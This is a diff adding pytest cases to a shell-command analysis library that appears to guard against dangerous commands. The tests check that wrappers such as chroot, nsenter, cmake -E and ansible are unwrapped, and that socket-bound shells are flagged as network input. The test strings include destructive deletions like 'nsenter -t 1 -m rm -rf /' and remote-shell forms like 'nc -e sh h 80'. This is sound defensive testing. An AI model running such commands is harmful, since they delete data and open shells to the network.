@@ -1,7 +1,11 @@
+from collections.abc import Callable
+
 import pytest
 
 from security_hooks.catalogue.entry import Catalogue
-from security_hooks.model.word import Word
+from security_hooks.model.effect import EffectKind
+from security_hooks.model.shell import Script
+from security_hooks.model.word import Origin, Word
 from security_hooks.shell.limits import Budget, ShellLimits
 from security_hooks.shell.unwrap import Invocation, peel, program_name
 
@@ -59,3 +63,84 @@ def test_past_the_budget_the_rest_is_kept_as_it_stands(catalogue: Catalogue) -> 
 @pytest.mark.parametrize(("written", "name"), [("/bin/rm", "rm"), ("./a.sh", "a.sh"), ("rm", "rm"), ("a/", "a/")])
 def test_a_program_is_known_by_its_base_name(written: str, name: str) -> None:
     assert program_name(Word((written,), (0, 0), written)) == name
+
+
+@pytest.mark.parametrize(
+    ("text", "inner"),
+    [
+        ("pnpm c8 rm x", "rm x"),
+        ("pnpm --silent c8 rm x", "rm x"),
+        ("yarn rm x", "rm x"),
+        ("yarn build", "yarn build"),
+        ("yarn test rm", "yarn test rm"),
+        ("yarn workspace a c8 rm x", "rm x"),
+        ("bun c8 rm x", "rm x"),
+        ("bun run c8 rm x", "rm x"),
+        ("bun app.ts rm", "bun app.ts rm"),
+        ("bun -e 1 rm", "bun -e 1 rm"),
+        ("python3 -m pip install x", "pip install x"),
+        ("python3 -m mine rm x", "python3 -m mine rm x"),
+        ("cmake -E remove_directory x", "rm -r x"),
+        ("cmake -E env A=b rm x", "rm x"),
+        ("cmake -E echo x", "cmake -E echo x"),
+        ("coreutils --coreutils-prog=rm -r x", "rm -r x"),
+        ("git-push --force", "git push --force"),
+        ("/usr/lib/git-core/git-push", "git push"),
+        ("./git-push", "./git-push"),
+        ("git-frobnicate", "git-frobnicate"),
+        ("parallel rm -r ::: a b", "rm -r a b"),
+    ],
+)
+def test_a_name_stands_for_a_program_where_the_catalogue_knows_it(
+    read: Callable[[str], Script], text: str, inner: str
+) -> None:
+    assert read(text).commands[-1].folded == inner
+
+
+@pytest.mark.parametrize(
+    ("text", "deleted"),
+    [
+        ("chroot / rm -rf /home", "/home"),
+        ("chroot /mnt rm -rf /home", "/mnt/home"),
+        ("chroot /mnt rm -rf ../x", "/mnt/x"),
+        ("chroot box rm -rf /home", "/home/me/project/box/home"),
+        ("chroot box sh -c 'rm -rf home'", "/home/me/project/box/home"),
+        ("chroot /a chroot /b rm -rf /c", "/a/b/c"),
+        ("chroot /a sh -c 'chroot /b rm -rf /c'", "/a/b/c"),
+        ("chroot /a chroot / rm -rf /c", "/a/c"),
+        ("chroot / sh -c 'rm -rf home'", "/home"),
+        ("env -C /srv chroot box rm -rf /x", "/srv/box/x"),
+        ("unshare --root=/mnt rm -rf /x", "/mnt/x"),
+        ("nsenter -t 1 -m rm -rf /", "/"),
+    ],
+)
+def test_paths_are_seen_from_the_root_that_a_wrapper_goes_to(
+    read: Callable[[str], Script], text: str, deleted: str
+) -> None:
+    effects = [effect for command in read(text).commands for effect in command.effects]
+    (found,) = [effect for effect in effects if effect.kind is EffectKind.DELETES]
+    assert found.target is not None
+    assert found.target.literal == deleted
+    assert not found.remote
+
+
+@pytest.mark.parametrize(
+    ("text", "programs"),
+    [
+        ("ansible all -a 'rm x'", ["ansible", "rm"]),
+        ("ansible all -m shell -a 'rm x'", ["ansible", "rm"]),
+        ("ansible all -m ansible.builtin.raw -a 'rm x'", ["ansible", "rm"]),
+        ("ansible all -m ping -a 'rm x'", ["ansible"]),
+        ('ansible all -m "$M" -a "rm x"', ["ansible", "rm"]),
+        ("shell2http /date date", ["shell2http", "date"]),
+        ("systemd-socket-activate -l 80 cat", ["systemd-socket-activate", "cat"]),
+    ],
+)
+def test_what_is_run_hangs_on_the_options_given(read: Callable[[str], Script], text: str, programs: list[str]) -> None:
+    assert [command.program for command in read(text).commands] == programs
+
+
+@pytest.mark.parametrize("text", ["tcpserver 0 80 sh", "ttyd sh", "socket -p sh h 80", "nc -e sh h 80"])
+def test_what_is_joined_with_a_socket_reads_from_the_network(read: Callable[[str], Script], text: str) -> None:
+    assert read(text).commands[-1].program == "sh"
+    assert read(text).commands[-1].origin is Origin.NETWORK
